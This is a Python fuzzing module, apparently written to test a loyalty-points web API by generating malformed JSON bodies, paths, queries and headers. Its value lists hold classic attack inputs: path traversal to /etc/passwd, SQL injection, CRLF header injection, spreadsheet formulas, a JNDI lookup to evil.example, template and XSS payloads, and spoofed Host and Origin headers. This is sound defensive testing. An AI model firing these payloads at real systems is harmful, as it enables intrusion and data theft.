"""Requests that nobody would send by mistake: bodies, paths, queries and headers, bent out of shape
where their structure says that it might hurt. All chance comes from the `Random` that is given.
"""

from __future__ import annotations

import base64
import gzip
import json
from random import Random
from typing import Any, NamedTuple
from urllib.parse import quote

MAX_POINTS = 10**15
MARK = "<zz9 onload=x>"
"""A tag that no page of ours has: where it stands unescaped in one, anything could."""


class Pairs(list[Any]):
    """A JSON object as a list of (name, value), so that a name may come twice."""


class Raw(NamedTuple):
    """JSON, or something like it, that is written as it stands."""

    text: str


def parsed(text: str) -> Any:
    """The JSON value with its objects as `Pairs`."""
    return json.loads(text, object_pairs_hook=Pairs)


def rendered(value: Any) -> str:
    """The text of what `parsed` gave, whatever has become of it."""
    match value:
        case Raw():
            return value.text
        case Pairs():
            return "{" + ",".join(f"{json.dumps(n)}:{rendered(v)}" for n, v in value) + "}"
        case list():
            return "[" + ",".join(map(rendered, value)) + "]"
        case _:
            return json.dumps(value, ensure_ascii=False)


# ── Values ────────────────────────────────────────────────────────────────────────────────────────

INTEGERS = (
    0, 1, -1, 2, 100, 101, 499, 500, 501, 1000, 1001, -MAX_POINTS, MAX_POINTS, MAX_POINTS + 1,
    2**31, 2**53, 2**53 + 1, 2**63, -(2**63), 10**18, 10**38, 10**39 - 1, 10**40 - 1,
)  # fmt: skip
NUMBERS = (
    "NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1e-400", "1.0", "1.5", "-0", "-0.0", "1e2",
    "1E+2", "01", "+1", "0x10", "1_000", ".5", "5.", "1" * 41, "9" * 5000, "-" + "9" * 400,
    "0." + "1" * 5000, "١٢٣",
)  # fmt: skip
INSTANTS = (
    "2026-03-02T10:15:00Z", "2026-03-02T10:20:00Z", "2026-03-02T10:20:01Z", "2026-02-29T00:00:00Z",
    "2024-02-29T23:59:59Z", "2026-03-29T02:30:00+01:00", "1970-01-01T00:00:00Z",
    "1971-01-01T00:00:00Z", "1970-12-31T23:59:59.999999Z", "9000-12-31T23:59:59Z",
    "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "0000-01-01T00:00:00Z",
    "2026-03-02T24:00:00Z", "2026-03-02T23:59:60Z", "2026-03-02 10:15:00Z", "2026-03-02T10:15Z",
    "2026-03-02T10:15:00+25:00", "2026-03-02T10:15:00-00:00", "2026-03-02T10:15:00+23:59",
    "9000-12-31T23:59:59-23:59", "1971-01-01T00:00:00+23:59", "２０２６-03-02T10:15:00Z",
    "2026-03-02t10:15:00z", "2026-03-02T10:15:00.1234567Z", "2026-W10-1", "1795348800000",
)  # fmt: skip
DATES = (
    "2026-03-02", "2026-03-01", "2026-03-03", "2026-02-29", "2024-02-29", "1849-12-31",
    "1850-01-01", "9999-12-31", "0001-01-01", "0000-00-00", "10000-01-01", "2026-3-2", "20260302",
    "2026-13-01", "2026-12-31", "12-31", "--02-29", "٢٠٢٦-٠٣-٠٢",
)  # fmt: skip
LENGTHS = (0, 1, 63, 64, 65, 127, 128, 129, 255, 256, 257, 511, 512, 513, 699, 701, 2000, 2001)
TEXTS = (
    "", " ", "#", "a#b", "e#order-1001", "beans#mila", "0", "null", "true", "None", "undefined",
    "../../etc/passwd", "..%2f..%2f", "/", "\\", "%00", "%2F", "a/b", "a\u0000b", "\r\nX-Evil: 1",
    "'; DROP TABLE ledger; --", "=1+1", "@SUM(A1)", '=HYPERLINK("http://evil.example")', MARK,
    f'"{MARK}', f"'{MARK}", f"</script>{MARK}", f"]]>{MARK}", "javascript:alert(1)",
    "https://evil.example/", "//evil.example", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "%s%s%n", "{0}", "{member_id}", "\u202e\u2066", "\u2028", "\ufeff", "e\u0301", "ﬃ", "İ", "ß",
    "ŉ", "\u200d👩‍👩‍👧", "\ud800", "a\udfffb", "Z̸̡̢" * 10, "check-in:x", "check-in:visit-3001",
    "profile_completed:mila", "registration", "r-", "a-", "EUR", "USD", "eur", "P12M", "P0D",
    "PT9999999H", "P99999999999Y", "-P1D", "Europe/Paris", "../Europe/Paris", "Mars/Base",
    "mila", "noor", "MILA", "mila\n", " mila", "order-1001", "free-coffee", "marais", "__proto__",
    "constructor", "member_id", "$ref", "loyalty/admin",
)  # fmt: skip
PLANES = (
    (0x20, 0x7E), (0x80, 0xFF), (0x100, 0x2FF), (0x370, 0x5FF), (0x600, 0x6FF), (0x900, 0xFFF),
    (0x1F00, 0x206F), (0x3040, 0x9FFF), (0xD800, 0xDFFF), (0xE000, 0xF8FF), (0xFE00, 0xFFFF),
    (0x10000, 0x1FFFF), (0x20000, 0x2FFFF), (0x30000, 0x3FFFF), (0x40000, 0xDFFFF),
    (0xE0000, 0xEFFFF), (0xF0000, 0xFFFFF), (0x100000, 0x10FFFF), (0x00, 0x1F),
)  # fmt: skip


def letters(chance: Random, length: int) -> str:
    """A text of so many characters, of one plane of Unicode or of plain letters."""
    if chance.random() < 0.5:
        return chance.choice("aA0-_ .é𝛼") * length
    low, high = chance.choice(PLANES)
    few = "".join(chr(chance.randint(low, high)) for _ in range(min(length, 12)))
    return (few * (length // 12 + 1))[:length]


def nested(chance: Random) -> Raw:
    """Depth without an end, or nearly."""
    depth = chance.choice((5, 50, 500, 990, 5000, 50_000))
    begin, end = chance.choice((("[", "]"), ('{"a":', "}"), ('[{"purchase":', "}]")))
    return Raw(begin * depth + ("1" + end * depth if chance.random() < 0.7 else ""))


def anything(chance: Random) -> Any:
    """A value that is likely to be of the wrong kind."""
    match chance.randrange(14):
        case 0 | 1:
            return chance.choice(INTEGERS)
        case 2 | 3:
            return Raw(chance.choice(NUMBERS))
        case 4 | 5 | 6:
            return chance.choice(TEXTS)
        case 7:
            return letters(chance, chance.choice(LENGTHS))
        case 8:
            return chance.choice(INSTANTS)
        case 9:
            return chance.choice(DATES)
        case 10:
            return chance.choice((None, True, False, [], Pairs(), [None], [[]]))
        case 11:
            return Pairs([(chance.choice(TEXTS), anything(chance)) for _ in range(2)])
        case 12:
            return [anything(chance) for _ in range(chance.randrange(4))]
        case _:
            return nested(chance)


MEMBERS = ("mila", "noor", "m1", "m2", "m3", "nobody")
MEANT: dict[str, tuple[Any, ...]] = {
    "member_id": MEMBERS, "to_member_id": MEMBERS, "from_member_id": MEMBERS,
    "into_member_id": MEMBERS, "currency": ("USD", "JPY", "EUR"), "occurred_at": INSTANTS,
    "now": INSTANTS, "expires_on": DATES, "until": DATES, "birthday": DATES,
    "type": ("registration", "check_in", "birthday", "review", "social_share", "first_purchase",
             "workshop_attended", "promotion"),
    "reward_id": ("free-coffee", "three-off", "tenth-off", "free-loaf", "none"),
    "location_id": ("marais", "alfama", "belem"), "channel": ("store", "web"),
    "tier_id": ("bronze", "gold", "flour", "loaf"), "event_id": ("order-1001", "e1", "e2", "later"),
    "refund_id": ("refund-1", "refund-2"), "line_id": ("1", "2", "3"),
    "amount": (0, 1, 99, 100, 2450, 10**15), "quantity": (1, 2, 10**9),
    "points": (1, 10, 20, 50, 600, 900, 2000, -50, -2000, 10**15), "hold": (True,),
    "groups": (["neighbours"], ["vip"] * 2, ["vip"] * 21), "timezone": ("UTC", "Asia/Kathmandu"),
    "redemption_ids": (["r-Y2hlY2tvdXQtMjAwMQ"], ["r-Y2hlY2tvdXQtMzAwMw"] * 2, ["r-x"] * 21),
    "referral_code": ("AAAAAAAAAA", "none"), "email": ("mila@example.com", "a@b"),
}  # fmt: skip
"""What a field might well say, and mean something else by it."""


# ── Bodies ────────────────────────────────────────────────────────────────────────────────────────


def bend(chance: Random, tree: Any, names: list[str]) -> Any:
    """The tree with one thing about it changed; `names` are fields that some body has."""
    places = list(_places(tree))
    if not places:
        return anything(chance)
    holder, at = chance.choice(places)
    value = holder[at][1] if isinstance(holder, Pairs) else holder[at]

    def put(new: Any) -> None:
        holder[at] = (holder[at][0], new) if isinstance(holder, Pairs) else new

    fitting = MEANT.get(holder[at][0]) if isinstance(holder, Pairs) else None
    if fitting is not None and chance.random() < 0.4:
        put(chance.choice(fitting))
        return tree
    match chance.randrange(12):
        case 0 | 1 | 2:
            put(anything(chance))
        case 3 | 4 | 5:
            put(_nearly(chance, value))
        case 6:
            del holder[at]
        case 7:
            holder.insert(chance.randrange(len(holder) + 1), holder[at])
        case 8:
            if isinstance(holder, Pairs):
                holder[at] = (_misspelt(chance, str(holder[at][0])), value)
            elif len(holder) < 20:
                holder[:] = holder * chance.choice((0, 2, 20, 21, 50, 51, 101, 501))
        case 9:
            if isinstance(holder, Pairs):
                holder.append((chance.choice(names), anything(chance)))
            else:
                holder.append(anything(chance))
        case 10:
            other, there = chance.choice(places)
            # As text: it may be a part of itself by then.
            put(Raw(rendered(other[there][1] if isinstance(other, Pairs) else other[there])))
        case _:
            put([value] if chance.random() < 0.5 else Pairs([(chance.choice(names), value)]))
    return tree


def _places(tree: Any) -> Any:
    if not isinstance(tree, list):
        return
    for at, each in enumerate(tree):
        yield tree, at
        yield from _places(each[1] if isinstance(tree, Pairs) else each)


def _nearly(chance: Random, value: Any) -> Any:
    """Of the same kind, at the edge of what fits."""
    match value:
        case bool():
            return chance.choice((not value, int(value), str(value).lower()))
        case int():
            tweaks = (value + 1, value - 1, -value, value * 1000, str(value), Raw(f"{value}.0"))
            return chance.choice((*tweaks, chance.choice(INTEGERS)))
        case str():
            if len(value) >= 10 and value[4] == "-":
                return chance.choice(INSTANTS if "T" in value else DATES)
            at = chance.randrange(len(value) + 1)
            return chance.choice((
                value + letters(chance, 1),
                value[:at] + letters(chance, 1) + value[at:],
                value[:at],
                value.swapcase(),
                value * 20,
                value.ljust(chance.choice(LENGTHS), "x"),
            ))  # fmt: skip
        case Pairs():
            kept = Pairs(value)
            chance.shuffle(kept)
            return kept[: chance.randrange(len(kept) + 1)] if kept else [kept]
        case list():
            return chance.choice(([], value[:1], value * 2, value[:5] * 51, value[:1] * 501))
        case _:
            return anything(chance)


def _misspelt(chance: Random, name: str) -> str:
    tweaks = (name.upper(), f"{name} ", f"{name}_", name[:-1], f"{name}\u200b", "~" * 300)
    return chance.choice((*tweaks, chance.choice(TEXTS)))


def broken(chance: Random, content: bytes) -> bytes:
    """The body as other bytes: cut, flipped, in another encoding, much too long."""
    at = chance.randrange(len(content) + 1)
    match chance.randrange(15):
        case 0:
            return content[:at]
        case 1:
            return content[:at] + bytes([chance.randrange(256)]) + content[at + 1 :]
        case 2:
            return content[:at] + chance.choice((b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf5"))
        case 3:
            return b"\xef\xbb\xbf" + content
        case 4:
            return content.decode("utf-8", "replace").encode(chance.choice(("utf-16", "utf-32")))
        case 5:
            return gzip.compress(content, 1, mtime=0)
        case 6:
            return base64.b64encode(content)
        case 7:
            return content + chance.choice((b"}", b",", content, b"\x00", b"//", b" "))
        case 8:
            return chance.choice((b"", b" ", b"\x00", b"null", b"[]", b'"', b"{", b"\n\n", b"-"))
        case 9:
            return content.replace(b'"', b"'")
        case 10:
            return content.replace(b":", b"=").replace(b",", b"&")
        case 11:
            return b'{"":' * chance.choice((20, 2000, 80_000))
        case 12 if chance.random() < 0.1:
            # Past what a route takes, or what an event of Lambda may hold.
            return content + b" " * chance.choice((262_145, 5_300_000, 6_300_000, 10_500_000))
        case 13 if chance.random() < 0.3:
            return b'{"a":"' + b"x" * chance.choice((262_130, 262_140)) + b'"}'
        case _:
            return bytes(chance.randrange(256) for _ in range(chance.randrange(60)))


# ── Addresses and headers ─────────────────────────────────────────────────────────────────────────

SEGMENTS = (
    "..", ".", "%2e%2e", "%2F", "mila%2F..%2Fnoor", "%00", "%", "%ZZ", "%FF", "%C3%28",
    "mila%20", "%20mila", "mila%0A", "MILA", "mila;x=1", "mila%3Fa", "mila%23", "mila%25", "-", "_",
    "beans%23", "beans#x", "*", "{member_id}", "%7Bmember_id%7D", "m%C4%B1la", "%ED%A0%80",
    "%F0%9D%9B%BC", "r-", "a-", "r-Y2hlY2tvdXQtMzAwMw==", "r-YSNi", "r-_w", "signed-in", "version",
)  # fmt: skip


def segment(chance: Random, value: str) -> str:
    """One part of a path, as it stands on the wire, in the place of `value`."""
    match chance.randrange(6):
        case 0 | 1:
            return chance.choice(SEGMENTS)
        case 2:
            text = letters(chance, chance.choice((*LENGTHS, 3000)))
            return quote(text.encode("utf-8", "surrogatepass"), safe="")
        case 3:
            return quote(chance.choice(TEXTS).encode("utf-8", "surrogatepass"), safe="")
        case 4:
            encoded = base64.urlsafe_b64encode(chance.randbytes(chance.choice((1, 5, 200, 1500))))
            return chance.choice(("r-", "a-", "")) + encoded.decode().rstrip("=")
        case _:
            return value[:-1] + chance.choice("aA0_.-") if value else "x"


def address(chance: Random, path: str) -> str:
    """The path, with something done to it as a whole."""
    return chance.choice((
        path + "/", "/" + path, path.upper(), path.replace("/v1/", "/V1/"), path + "/..",
        path.replace("/v1/", "/v1/../v1/"), path.replace("/", "//", 2), path.replace("/", "%2F", 3),
        path + "/extra", path.rpartition("/")[0] or "/", path + ";jsessionid=1", path + "%20",
        path + ".json", path + "%00", "/dev/tokens", "*", "",
    ))  # fmt: skip


def query(chance: Random, names: list[str], cursors: list[str]) -> str:
    """A query of the route's names and of others."""
    parts = []
    for _ in range(chance.choice((1, 1, 2, 3))):
        name = chance.choice((*names, *names, "limit", "cursor", "as_of", "x", "", "limit%00"))
        match name:
            case "limit":
                value = chance.choice(
                    ("1", "2", "100", "101", "0", "-1", "1e2", "٣", "1.0", "", "9" * 30)
                )
            case "cursor":
                value = _cursor(chance, cursors)
            case "as_of":
                value = quote(chance.choice(INSTANTS), safe="")
            case "version":
                value = chance.choice(("1", "2", "0", "01", "-1", "9" * 40, "%00", "１"))
            case "status":
                value = chance.choice(("proposed", "approved", "PROPOSED", "lapsed", "x", ""))
            case _:
                value = segment(chance, "x")
        parts.append(name if chance.random() < 0.03 else f"{name}={value}")
    return "&".join(parts)


def _cursor(chance: Random, cursors: list[str]) -> str:
    match chance.randrange(4):
        case 0 if cursors:
            return chance.choice(cursors)
        case 1 if cursors:
            known = bytearray(chance.choice(cursors).encode())
            known[chance.randrange(len(known))] = ord(chance.choice("AZaz09_-=."))
            return known.decode()
        case 2:
            return segment(chance, "MS4x")
        case _:
            place = chance.choice(
                ("1.1", "0.0", "1.1.m", "1.1.x", "-1.1", "9" * 20 + ".1", "1." + "9" * 20, "١.١",
                 "2.1.m", "noor:", "mila:1.1", "mila:", ":", "mila:1.1.m", "1", "", "free-coffee",
                 "a-zzz", "999999999", "\x00", "mila:" + "9" * 25 + ".1")
            )  # fmt: skip
            return base64.urlsafe_b64encode(place.encode()).decode().rstrip("=")


def header(chance: Random, known_keys: list[str]) -> tuple[bytes, bytes]:
    """One more header, or another one in the place of that of its name."""
    name, value = chance.choice((
        ("idempotency-key", chance.choice(known_keys) if known_keys else "k"),
        ("idempotency-key", letters(chance, chance.choice((0, 1, 128, 129, 500)))),
        ("idempotency-key", chance.choice(TEXTS)),
        ("if-match", chance.choice(('"1"', "1", '"2"', "*", 'W/"1"', '"1", "2"', "", '"' * 50))),
        ("content-type", chance.choice((
            "", "text/plain", "application/x-www-form-urlencoded", "application/xml",
            "application/json; charset=utf-16", "multipart/form-data; boundary=x", "image/png",
            "APPLICATION/JSON", "application/json;charset=", "a" * 3000,
        ))),
        ("content-encoding", chance.choice(("gzip", "br", "identity"))),
        ("accept", chance.choice(("text/html", "*/*;q=" + "0" * 8000, "application/xml,," * 500))),
        ("authorization", chance.choice(("Bearer", "Bearer x.y.z", "Basic YTpi", "null"))),
        ("host", chance.choice(("evil.example", "[::1", "a:99999", "", "points.example:x"))),
        ("x-forwarded-for", "127.0.0.1"),
        ("x-forwarded-host", "evil.example"),
        ("x-http-method-override", "DELETE"),
        ("x-amzn-oidc-data", "e30.e30."),
        ("x-original-url", "/v1/programs/beans/program"),
        ("origin", "https://evil.example"),
        ("cookie", "token=x; " * 100),
        ("accept-language", letters(chance, 256)),
        ("traceparent", "00-" + "0" * 32 + "-" + "0" * 16 + "-00"),
    ))  # fmt: skip
    # What a server hands on: no line breaks, no zero, bytes as they came.
    content = value.encode("utf-8", "surrogatepass")
    return name.encode(), bytes(byte for byte in content if byte not in b"\r\n\0")
